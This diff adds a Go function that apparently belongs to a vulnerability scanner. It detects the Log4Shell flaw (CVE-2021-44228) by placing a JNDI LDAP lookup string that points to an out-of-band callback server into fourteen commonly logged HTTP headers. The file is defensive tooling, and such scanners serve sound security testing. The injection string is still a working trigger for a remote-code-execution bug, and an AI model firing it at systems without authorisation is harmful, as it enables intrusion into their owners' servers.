@@ -0,0 +1,46 @@
+package main
+
+import (
+	"fmt"
+	"net/http"
+	"net/url"
+	"os"
+)
+
+// log4jHeaders are the request headers most often logged by Java
+// applications, and so most likely to reach a vulnerable Log4j logger.
+var log4jHeaders = []string{
+	"User-Agent",
+	"Referer",
+	"X-Forwarded-For",
+	"X-Forwarded-Host",
+	"X-Real-Ip",
+	"X-Api-Version",
+	"X-Client-Ip",
+	"True-Client-Ip",
+	"Authorization",
+	"Accept",
+	"Accept-Language",
+	"Origin",
+	"Contact",
+	"From",
+}
+
+// detectLog4Shell resends r with a JNDI lookup of a unique OOB callback in
+// each of log4jHeaders (CVE-2021-44228). A callback, found when the OOB
+// server is polled, is reported along with the header that triggered it.
+func detectLog4Shell(client *http.Client, oob *oobTracker, r request, headers headerArgs) {
+	h := headers
+	for _, name := range log4jHeaders {
+		u, err := url.Parse(oob.URL("LOG4J-POSSIBLE", r.url, name))
+		if err != nil {
+			continue
+		}
+		h = withHeader(h, name, fmt.Sprintf("${jndi:ldap://%s%s}", u.Host, u.Path))
+	}
+
+	_, _, err := probe(client, r.method, r.url, r.body, h)
+	if err != nil {
+		fmt.Fprintf(os.Stderr, "request failed: %s\n", err)
+	}
+}